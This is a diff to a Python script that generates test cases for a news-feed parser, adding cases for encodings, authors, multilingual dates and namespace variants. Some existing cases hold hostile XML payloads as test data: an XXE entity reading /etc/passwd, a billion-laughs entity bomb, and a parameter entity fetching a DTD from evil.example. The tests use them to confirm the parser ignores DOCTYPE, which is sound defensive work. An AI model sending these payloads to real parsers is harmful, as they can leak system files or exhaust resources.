@@ -12,7 +12,8 @@ The whole output is also compared with <name>.expected.json, which is written
 by the test (NEWSD_BLESS_FEEDS=1) only after the checks pass and was read
 through before committing.
 
-Run: python3 tests/data/feeds/make_cases.py   (rewrites documents and checks)
+Run: python3 tests/data/feeds/make_cases.py [NAME_PREFIX...]
+(rewrites the documents and checks of every case, or of the cases named)
 """
 import hashlib
 import json
@@ -133,9 +134,9 @@ case("format_json11", json.dumps({"version": "https://jsonfeed.org/version/1.1",
       "items/0/updated": "2025-03-02T23:00:00Z", "items/0/key": "guid:post-1", "items/0/title": None}, ext="json")
 case("format_channel_root", '<channel><title>Bare</title><link>https://bare.example.com/</link>'
      '<item><title>x</title><link>https://bare.example.com/x</link></item></channel>\n',
-     {"format": "rss2.0", "title": "Bare", "items#": 1, "warnings~": "without an enclosing <rss>"})
+     {"format": "rss2.0", "title": "Bare", "items#": 1, "notes~": "without an enclosing <rss>"})
 case("format_rss_no_version", '<rss><channel><title>NoVer</title><item><title>t</title></item></channel></rss>',
-     {"format": "rss2.0", "warnings~": "without a version", "items/0/title": "t"})
+     {"format": "rss2.0", "notes~": "without a version", "items/0/title": "t"})
 case("format_rss_uppercase_tags", '<RSS version="2.0"><CHANNEL><TITLE>Upper</TITLE><LINK>https://up.example.com/</LINK>'
      '<ITEM><TITLE>Loud</TITLE><LINK>/loud</LINK><PUBDATE>Sun, 02 Mar 2025 08:40:00 GMT</PUBDATE></ITEM></CHANNEL></RSS>',
      {"format": "rss2.0", "title": "Upper", "items/0/title": "Loud", "items/0/link": "https://up.example.com/loud",
@@ -144,13 +145,13 @@ case("format_rss_mixed_case_end_tags", '<rss version="2.0"><channel><Title>Mixed
      '<link>https://m.example.com/it</link></item></channel></rss>',
      {"title": "Mixed", "items/0/title": "It", "warnings~": "ill-formed XML", "warnings~ 2": "2 end tags matched ignoring case"})
 case("format_json_no_version", json.dumps({"title": "No version", "items": [{"id": "a", "title": "A"}]}),
-     {"format": "json1.0", "warnings~": "without a version", "items/0/title": "A"}, ext="json")
+     {"format": "json1.0", "notes~": "without a version", "items/0/title": "A"}, ext="json")
 case("format_json_unix_dates", json.dumps({"version": "https://jsonfeed.org/version/1.1", "items": [
     {"id": "s", "date_published": 1740904800}, {"id": "ms", "date_published": 1740904800000}]}),
      {"items/0/published": "2025-03-02T08:40:00Z", "items/1/published": "2025-03-02T08:40:00Z"}, ext="json")
 case("format_atom_without_namespace", '<feed><title>NoNS</title><entry><id>x1</id><title>T</title>'
      '<link href="https://n.example.com/x1"/></entry></feed>',
-     {"format": "atom1.0", "warnings~": "no Atom namespace", "items/0/link": "https://n.example.com/x1"})
+     {"format": "atom1.0", "notes~": "no Atom namespace", "items/0/link": "https://n.example.com/x1"})
 
 # ---------------------------------------------------------------- not feeds
 case("notfeed_html", "<!DOCTYPE html>\n<html><head><title>Hi</title></head><body><p>Not a feed</p></body></html>\n",
@@ -479,7 +480,7 @@ case("key_duplicate_guid_uses_link", rss(item("<title>a</title><guid>same</guid>
                                          item("<title>b</title><guid>same</guid><link>https://example.com/b</link>")),
      {"items/0/key": "url:https://example.com/a", "items/1/key": "url:https://example.com/b", "warnings~": "shared by several items"})
 case("key_numeric_guid_uses_link", rss(item("<title>a</title><guid isPermaLink=\"false\">123</guid><link>https://example.com/n?utm_source=x</link>")),
-     {"items/0/key": "url:https://example.com/n", "items/0/id": "123", "warnings~": "is a bare number"})
+     {"items/0/key": "url:https://example.com/n", "items/0/id": "123", "notes~": "is a bare number"})
 case("key_hash_fallback", rss(item("<title>No link</title><description>Body</description><pubDate>Sun, 02 Mar 2025 08:40:00 GMT</pubDate>")),
      {"items/0/key": "hash:" + sha("No link\x1f2025-03-02T08:40:00Z\x1fBody"),
       "items/0/content_hash": sha("No link\x1fBody\x1f")})
@@ -513,7 +514,7 @@ case("ns_unknown_prefix_ignored", rss(item('<title>n</title><guid>nx</guid><foo:
      {"items#": 1, "warnings~": "undeclared namespace prefix 'foo'"})
 case("ns_media_near_miss", rss(item('<title>n</title><guid>nm</guid><media:thumbnail url="https://img.example.com/m.jpg"/>')).replace(
     "<rss ", '<rss xmlns:media="https://search.yahoo.com/mrss" '),
-     {"items/0/image": "https://img.example.com/m.jpg", "warnings~": "not the standard one"})
+     {"items/0/image": "https://img.example.com/m.jpg", "notes~": "not the standard one"})
 case("ns_other_prefix_name", rss(item('<title>n</title><guid>np</guid><c:encoded>&lt;p&gt;other prefix&lt;/p&gt;</c:encoded>')).replace(
     "<rss ", '<rss xmlns:c="http://purl.org/rss/1.0/modules/content/" '),
      {"items/0/content": "<p>other prefix</p>", "warnings#": 0})
@@ -555,14 +556,14 @@ case("bad_unquoted_attribute", rss(item("<title>q</title><guid>q</guid><enclosur
      {"items/0/title": "q", "warnings~": "ill-formed XML", "items/0/enclosures": [{"url": "https://cdn.example.com/q.mp3", "type": "audio/mpeg", "length": None}]})
 case("bad_xxe", '<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
      + rss(item("<title>&xxe;</title><guid>xxe</guid>"), decl=False),
-     {"items/0/title": "&xxe;", "warnings~": "DOCTYPE ignored"})
+     {"items/0/title": "&xxe;", "notes~": "DOCTYPE ignored"})
 LOL = "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
 case("bad_billion_laughs", f'<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY lol0 "lol">{LOL}]>\n'
      + rss(item("<title>&lol9;</title><guid>lol</guid>"), decl=False),
-     {"items/0/title": "&lol9;", "warnings~": "DOCTYPE ignored", "warnings~ 2": "1 undefined entities (first: &lol9;)", "warnings#": 2})
+     {"items/0/title": "&lol9;", "notes~": "DOCTYPE ignored", "warnings~ 2": "1 undefined entities (first: &lol9;)", "warnings#": 1})
 case("bad_xxe_parameter_entity", '<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>\n'
      + rss(item("<title>pe</title><guid>pe</guid>"), decl=False),
-     {"items/0/title": "pe", "warnings~": "DOCTYPE ignored"})
+     {"items/0/title": "pe", "notes~": "DOCTYPE ignored"})
 case("bad_bom_then_junk", "\ufeff" + "\n" + rss(item("<title>bom</title><guid>bom</guid>")), {"items/0/title": "bom"})
 case("bad_double_root_junk_after", rss(item("<title>first</title><guid>f</guid>")) + "<!-- cache: 0.01s -->\n<div>footer</div>",
      {"items/0/title": "first"})
@@ -596,13 +597,184 @@ case("encoding_unknown_declared", '<?xml version="1.0" encoding="x-klingon"?>\n'
      {"items/0/title": "plain ascii"})
 case("encoding_utf8_bom", "\ufeff" + rss(item("<title>bom ok</title><guid>b</guid>")), {"items/0/title": "bom ok", "warnings#": 0})
 
+# ---------------------------------------------------------------- issue 17: what mature parsers read
+# One construct per case; each failed before the change that made it pass.
+DC_NS = ["dc"]
+ATOM03 = ('<?xml version="1.0" encoding="utf-8"?>\n<feed version="0.3" xmlns="http://purl.org/atom/ns#"><title>Old</title>'
+          '<link rel="alternate" type="text/html" href="https://example.com/"/><modified>2025-03-02T08:40:00Z</modified>{}</feed>\n')
 
-def write_all():
-    for old in os.listdir(HERE):
+# windows-1252 references in HTML fields
+case("html_cp1252_escaped_reference",
+     rss(item("<title>h</title><guid>w1</guid><description>It&amp;#146;s &amp;#147;quoted&amp;#148; &amp;#150; done</description>")),
+     {"items/0/summary": "It\u2019s \u201cquoted\u201d \u2013 done"})
+case("html_cp1252_xml_reference",
+     rss(item("<title>h</title><guid>w2</guid><content:encoded>It&#146;s &#151; here</content:encoded>"), ns=["content"]),
+     {"items/0/content": "It\u2019s \u2014 here"})
+case("html_cp1252_cdata_reference",
+     rss(item("<title>h</title><guid>w3</guid><content:encoded><![CDATA[<p>&#147;Hi&#148; &#x92; <b>x</b></p>]]></content:encoded>"), ns=["content"]),
+     {"items/0/content": "<p>\u201cHi\u201d \u2019 <b>x</b></p>"})
+case("html_cp1252_libxml_path",
+     rss(item("<title>h</title><guid>w4</guid><description><![CDATA[<p>Unclosed &#150; para<br>next &#133;]]></description>")),
+     {"items/0/summary~": "Unclosed \u2013 para", "items/0/summary~ 2": "next \u2026"})
+case("html_cp1252_atom_xhtml",
+     atom(entry('<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>It&#146;s</p></div></content>')),
+     {"items/0/content": "<p>It\u2019s</p>"})
+
+# authors
+case("author_rss_name_email_parens", rss(item("<title>a</title><guid>ap</guid><author>Jane Doe (jane@example.com)</author>")),
+     {"items/0/authors": [{"name": "Jane Doe", "email": "jane@example.com", "uri": None}]})
+case("author_dc_creator_name_email_parens",
+     rss(item("<title>a</title><guid>dp</guid><dc:creator>Jane Doe (jane@example.com)</dc:creator>"), ns=DC_NS),
+     {"items/0/authors": [{"name": "Jane Doe", "email": "jane@example.com", "uri": None}]})
+case("author_managing_editor_name_email_parens", rss("", channel="<managingEditor>The Editor (ed@example.com)</managingEditor>"),
+     {"authors": [{"name": "The Editor", "email": "ed@example.com", "uri": None}]})
+case("author_dc_author", rss(item("<title>a</title><guid>da</guid><dc:author>Jane Doe</dc:author>"), ns=DC_NS),
+     {"items/0/authors": [{"name": "Jane Doe", "email": None, "uri": None}]})
+case("author_rss_channel_author",
+     rss(item("<title>a</title><guid>ca</guid>"), channel="<author>jane@example.com (Jane Doe)</author>"),
+     {"authors": [{"name": "Jane Doe", "email": "jane@example.com", "uri": None}]})
+case("author_atom03_homepage",
+     ATOM03.format("<entry><id>urn:a:1</id><title>E</title><issued>2025-03-01T00:00:00Z</issued>"
+                   "<author><name>Jane</name><homepage>https://jane.example.com/</homepage></author></entry>"),
+     {"format": "atom0.3", "items/0/authors": [{"name": "Jane", "email": None, "uri": "https://jane.example.com/"}]})
+
+# markup inside simple RSS elements
+case("markup_rss_title_inline", rss(item("<title>A <b>bold</b> move</title><guid>m1</guid>")),
+     {"items/0/title": "A bold move"})
+case("markup_rss_title_only_element", rss(item("<title><p>Whole title</p></title><guid>m2</guid>")),
+     {"items/0/title": "Whole title"})
+case("markup_rss_channel_title", rss("").replace("<title>Example</title>", "<title><b>Bold</b> Feed</title>"),
+     {"title": "Bold Feed"})
+case("markup_rss_author", rss(item("<title>m</title><guid>m3</guid><author><b>Jane Doe</b> &lt;jane@example.com&gt;</author>")),
+     {"items/0/authors": [{"name": "Jane Doe", "email": "jane@example.com", "uri": None}]})
+case("markup_rss_category", rss(item("<title>m</title><guid>m4</guid><category><b>Tech</b></category>")),
+     {"items/0/categories": ["Tech"]})
+case("markup_rss_guid", rss(item('<title>m</title><guid isPermaLink="false"><b>abc-5</b></guid>')),
+     {"items/0/id": "abc-5", "items/0/key": "guid:abc-5"})
+
+# dates
+def dated(name, text, expected, warnings=0):
+    checks = {"items/0/published": expected, "warnings#": warnings}
+    if expected is None:
+        checks["warnings~"] = "unparseable date"
+    case(name, rss(item(f"<title>d</title><guid>{name}</guid><pubDate>{text}</pubDate>")), checks)
+
+dated("date_zone_et_summer", "Mon, 08 Jul 2024 08:40:00 ET", "2024-07-08T12:40:00Z")
+dated("date_zone_pt_winter", "Sun, 02 Mar 2025 08:40:00 PT", "2025-03-02T16:40:00Z")
+dated("date_zone_ct_repeated_hour", "Sun, 02 Nov 2025 01:30:00 CT", None, 1)
+dated("date_zone_mt_before_1987", "Tue, 01 Jul 1980 08:40:00 MT", None, 1)
+dated("date_zone_unknown_name", "Sun, 02 Mar 2025 08:40:00 XYZ", None, 1)
+dated("date_twitter_form", "Wed Aug 27 13:08:45 +0000 2008", "2008-08-27T13:08:45Z")
+dated("date_iso_two_digit_year", "03-12-31T10:00:00Z", "2003-12-31T10:00:00Z")
+dated("date_iso_ordinal_basic", "2025061T084000Z", "2025-03-02T08:40:00Z")
+dated("date_greek", "Κυρ, 11 Ιούλ 2004 12:00:00 EST", "2004-07-11T17:00:00Z")
+dated("date_hungarian", "2004-július-13T9:15-05:00", "2004-07-13T14:15:00Z")
+dated("date_korean_onblog", "2004년 05월 28일  01:31:15", "2004-05-27T16:31:15Z")
+dated("date_korean_nate", "2004-05-25 오후 11:23:17", "2004-05-25T14:23:17Z")
+dated("date_german", "Mo, 03. März 2025 10:40:00 +0100", "2025-03-03T09:40:00Z")
+dated("date_spanish", "domingo, 2 de marzo de 2025 08:40 +0100", "2025-03-02T07:40:00Z")
+dated("date_french", "dim., 2 mars 2025 08:40:00 +0100", "2025-03-02T07:40:00Z")
+dated("date_russian", "2 марта 2025 08:40 +0300", "2025-03-02T05:40:00Z")
+
+# content elements
+XHTML_NS = 'xmlns:xhtml="http://www.w3.org/1999/xhtml"'
+case("content_rss_xhtml_body",
+     rss(item(f'<title>c</title><guid>x1</guid><description>Short</description><xhtml:body {XHTML_NS}><xhtml:p>Full <xhtml:b>text</xhtml:b></xhtml:p></xhtml:body>')),
+     {"items/0/summary": "Short", "items/0/content": "<p>Full <b>text</b></p>"})
+case("content_rss_body_default_namespace",
+     rss(item('<title>c</title><guid>x2</guid><body xmlns="http://www.w3.org/1999/xhtml"><p>Full &amp; more</p></body>')),
+     {"items/0/content": "<p>Full &amp; more</p>"})
+case("content_rss_bare_body", rss(item("<title>c</title><guid>x3</guid><body><p>Bare <i>body</i></p></body>")),
+     {"items/0/content": "<p>Bare <i>body</i></p>"})
+case("content_rss_atom_content",
+     rss(item('<title>c</title><guid>x4</guid><atom:content type="html">&lt;p&gt;From Atom&lt;/p&gt;</atom:content>'), ns=["atom"]),
+     {"items/0/content": "<p>From Atom</p>"})
+case("author_rss_atom_author",
+     rss(item("<title>c</title><guid>x5</guid><atom:author><atom:name>Jane</atom:name><atom:email>jane@example.com</atom:email>"
+              "<atom:uri>https://jane.example.com/</atom:uri></atom:author>"), ns=["atom"]),
+     {"items/0/authors": [{"name": "Jane", "email": "jane@example.com", "uri": "https://jane.example.com/"}]})
+case("category_rss_atom_category",
+     rss(item('<title>c</title><guid>x6</guid><atom:category term="science" label="Science"/>'), ns=["atom"]),
+     {"items/0/categories": ["science"]})
+case("summary_rss_summary_element", rss(item("<title>c</title><guid>x7</guid><summary>Only a summary</summary>")),
+     {"items/0/summary": "Only a summary", "items/0/content": None})
+case("summary_rss_summary_beside_description",
+     rss(item("<title>c</title><guid>x8</guid><description>Short</description><summary>The longer text</summary>")),
+     {"items/0/summary": "Short", "items/0/content": "The longer text"})
+case("link_atom_url_as_text", atom(entry("<link>https://example.com/as-text</link>")),
+     {"items/0/link": "https://example.com/as-text"})
+
+# categories and images from extensions
+case("category_media_category",
+     rss(item('<title>e</title><guid>e1</guid><media:category scheme="urn:x">Music</media:category>'), ns=["media"]),
+     {"items/0/categories": ["Music"]})
+case("category_itunes_item_category",
+     rss(item('<title>e</title><guid>e2</guid><itunes:category text="Technology"><itunes:category text="Podcasting"/></itunes:category>'),
+         ns=["itunes"]),
+     {"items/0/categories": ["Technology", "Podcasting"]})
+case("category_itunes_keywords",
+     rss(item("<title>e</title><guid>e3</guid><itunes:keywords>news, politics,world,</itunes:keywords>"), ns=["itunes"]),
+     {"items/0/categories": ["news", "politics", "world"]})
+case("image_feed_media_content",
+     rss("", channel='<media:content url="https://example.com/cover.jpg" medium="image"/>', ns=["media"]),
+     {"image": "https://example.com/cover.jpg"})
+case("date_feed_dcterms_modified",
+     rss("", channel="<pubDate>Sat, 01 Mar 2025 00:00:00 GMT</pubDate><dcterms:modified>2025-03-02T08:40:00Z</dcterms:modified>",
+         ns=["dcterms"]),
+     {"updated": "2025-03-02T08:40:00Z"})
+
+# variants
+case("format_json_version_1_0", json.dumps({"version": "https://jsonfeed.org/version/1.0", "title": "J",
+                                            "items": [{"id": "1", "content_text": "x"}]}),
+     {"format": "json1.0", "items#": 1}, ext="json")
+case("format_rss_without_channel",
+     '<?xml version="1.0"?>\n<rss version="2.0"><title>No channel</title><link>https://example.com/</link>'
+     "<item><title>Outside</title><link>/o1</link></item></rss>\n",
+     {"title": "No channel", "items#": 1, "items/0/title": "Outside", "items/0/link": "https://example.com/o1",
+      "warnings~": "no <channel> element"})
+case("format_atom_draft_namespace",
+     '<?xml version="1.0"?>\n<feed xmlns="http://purl.org/atom/ns#draft-ietf-atompub-format-08"><title>Draft</title>'
+     '<link href="https://example.com/"/><updated>2025-03-02T08:40:00Z</updated>'
+     "<entry><id>urn:d:1</id><title>Drafted</title><updated>2025-03-01T00:00:00Z</updated></entry></feed>\n",
+     {"format": "atom1.0", "title": "Draft", "items/0/title": "Drafted", "warnings#": 0, "notes#": 0})
+case("format_atom_echo_namespace",
+     '<?xml version="1.0"?>\n<feed version="0.2" xmlns="http://purl.org/echo/"><title>Echo</title>'
+     '<link rel="alternate" href="https://example.com/"/>'
+     "<entry><id>urn:e:1</id><title>Echoed</title><issued>2025-03-01T00:00:00Z</issued></entry></feed>\n",
+     {"format": "atom0.3", "title": "Echo", "items/0/title": "Echoed", "warnings#": 0, "notes#": 0})
+case("format_rss_prefixed_root",
+     '<?xml version="1.0"?>\n<rss:rss version="2.0" xmlns:rss="http://purl.org/rss/1.0/modules/rss091#"><rss:channel>'
+     "<rss:title>Prefixed</rss:title><rss:link>https://example.com/</rss:link>"
+     "<rss:item><rss:title>P</rss:title><rss:guid>p1</rss:guid></rss:item></rss:channel></rss:rss>\n",
+     {"format": "rss2.0", "title": "Prefixed", "items/0/title": "P", "items/0/id": "p1"})
+case("format_rss_prefixed_root_undeclared",
+     '<?xml version="1.0"?>\n<rss:rss version="2.0"><rss:channel>'
+     "<rss:title>Undeclared</rss:title><rss:item><rss:title>U</rss:title><rss:guid>u1</rss:guid></rss:item></rss:channel></rss:rss>\n",
+     {"title": "Undeclared", "items/0/title": "U"})
+UTF32_DOC = ('<?xml version="1.0" encoding="utf-32"?>\n<rss version="2.0"><channel><title>Київ UTF-32</title>'
+             "<item><title>Київ</title><guid>u32</guid></item></channel></rss>\n")
+case("encoding_utf_32_le_bom", "\ufeff" + UTF32_DOC, {"title": "Київ UTF-32", "items/0/title": "Київ"}, encoding="utf-32-le")
+case("encoding_utf_32_be_no_bom", UTF32_DOC, {"title": "Київ UTF-32", "items/0/title": "Київ"}, encoding="utf-32-be")
+
+# warnings and notes
+case("notes_rss_without_version", '<rss><channel><title>N</title><item><title>t</title><guid>n1</guid></item></channel></rss>',
+     {"warnings#": 0, "notes": ["<rss> without a version: read as RSS 2.0"]})
+case("notes_doctype_ignored",
+     '<?xml version="1.0"?>\n<!DOCTYPE rss SYSTEM "http://my.netscape.com/publish/formats/rss-0.91.dtd">\n'
+     + rss(item("<title>t</title><guid>n2</guid>"), decl=False),
+     {"warnings#": 0, "notes": ["DOCTYPE ignored: no DTD or external entity is ever loaded"]})
+case("warnings_unparseable_date_is_a_warning", rss(item("<title>t</title><guid>n3</guid><pubDate>soon</pubDate>")),
+     {"warnings#": 1, "notes#": 0})
+
+
+def write_all(only=()):
+    """Writes every case, or with `only` just the cases whose names start with one of them."""
+    selected = {name: value for name, value in CASES.items() if not only or name.startswith(tuple(only))}
+    for old in os.listdir(HERE) if not only else []:
         stem = old.split(".")[0]
         if stem not in CASES and any(old.endswith(s) for s in (".checks.json", ".options.json")):
             os.remove(os.path.join(HERE, old))
-    for name, (document, checks, options, ext, encoding) in sorted(CASES.items()):
+    for name, (document, checks, options, ext, encoding) in sorted(selected.items()):
         if encoding == "utf-8-surrogateescape":
             data = document.encode("utf-8", "surrogateescape")
         elif encoding == "latin-1":
@@ -618,8 +790,8 @@ def write_all():
             with open(os.path.join(HERE, f"{name}.options.json"), "w", encoding="utf-8") as f:
                 json.dump(options, f, indent=1)
                 f.write("\n")
-    print(f"{len(CASES)} cases", file=sys.stderr)
+    print(f"{len(selected)} cases", file=sys.stderr)
 
 
 if __name__ == "__main__":
-    write_all()
+    write_all(sys.argv[1:])
